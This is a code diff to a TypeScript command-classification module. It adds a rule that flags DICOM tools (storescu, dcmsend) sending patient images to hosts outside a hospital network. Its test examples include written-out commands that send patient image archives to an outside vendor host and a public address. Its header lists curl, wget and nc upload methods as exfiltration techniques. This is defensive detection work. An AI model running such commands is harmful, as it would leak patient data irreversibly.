@@ -4,7 +4,7 @@
 // ATT&CK T1048, T1048.003, T1041, T1567.002, T1071.004; curl(1) (-T, -F @, --data-binary @),
 // wget(1) (--post-file), nc(1), GTFOBins' "File upload" function.
 import type { Action, PathClass } from "../model.js";
-import { classifyPath, DOTENV, hostOf, isExternalHost, productionNamed } from "../paths.js";
+import { classifyPath, DOTENV, hostOf, internalHost, isExternalHost, productionNamed } from "../paths.js";
 import type { Invocation } from "../shell-command.js";
 import { looksLikeSql, readsRows } from "../sql.js";
 import { credentialPrinted } from "./credential-access.js";
@@ -762,4 +762,39 @@ const secretsFilePosted: CommandRule = {
   },
 };
 
-export const exfiltrationRules: readonly CommandRule[] = [secretsFilePosted, databaseExported, bucketToOthers, warehouseExport, httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
+/** storescu's and dcmsend's options that take a value (DCMTK): the host is the first other word. */
+const DICOM_VALUED = /^(?:-aet|-aec|--aetitle|--call|-to|-ta|-td|-pdu|--max-pdu|-xf|--config-file|-ll|--log-level|-lc|--log-config|-R|--read-from-dicomdir|\+dr|-tos|--timeout|--socket-timeout|--acse-timeout|--dimse-timeout|--max-send-pdu|\+crf|--create-report-file|\+rn|--rename-prefix)$/;
+
+/**
+ * Medical images sent to another organisation's DICOM node (storescu or dcmsend to a host outside
+ * the hospital's network): each study carries its patient's name, id and birth date in its header,
+ * and what was sent cannot be called back (T1048). A send to a node inside (its PACS, a router on
+ * the internal network) is the hospital's own work.
+ */
+const imagesSent: CommandRule = {
+  id: "exfiltration.medical-images-sent",
+  tactic: TACTIC,
+  technique: "T1048",
+  names: ["storescu", "dcmsend"],
+  match(inv) {
+    if (inv.name !== "storescu" && inv.name !== "dcmsend") return undefined;
+    const ops: string[] = [];
+    for (let i = 0; i < inv.args.length; i++) {
+      const a = inv.args[i]!;
+      if (DICOM_VALUED.test(a)) i++;
+      else if (!/^[-+]/.test(a)) ops.push(a);
+    }
+    const [host, port, ...files] = ops;
+    // (Outside: a name with a domain that is not the internal network's, or a public address; a bare name (pacs01) resolves inside.)
+    if (host === undefined) return undefined;
+    const outside = isExternalHost(host) && !internalHost(host) && /\./.test(host) && !/^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(host);
+    if (port === undefined || !/^\d{1,5}$/.test(port) || files.length === 0 || !outside) return undefined;
+    return { action: { capability: "exfiltrate", target: { name: host, external: true, personal: true }, reversibility: "irreversible", scope: "tree" }, reason: `sends ${describe(files, "DICOM files")} to ${shown(host)}, a DICOM node outside: every image carries its patient's name, id and birth date, and what was sent cannot be called back (T1048)` };
+  },
+  examples: {
+    match: [`storescu -v +sd +r -aet KBRH_ROUTER -aec DEMO_AI gateway.radvision-demo.ai 11112 /pacs/archive/2026/11/25/`, `dcmsend -aec VENDOR 203.0.113.40 104 study/*.dcm`],
+    noMatch: [`storescu -aec PACS pacs01.kbrh.internal 104 /tmp/test.dcm`, `storescu -aec ORTHANC localhost 4242 fixtures/ct.dcm`, `storescu --help`],
+  },
+};
+
+export const exfiltrationRules: readonly CommandRule[] = [imagesSent, secretsFilePosted, databaseExported, bucketToOthers, warehouseExport, httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
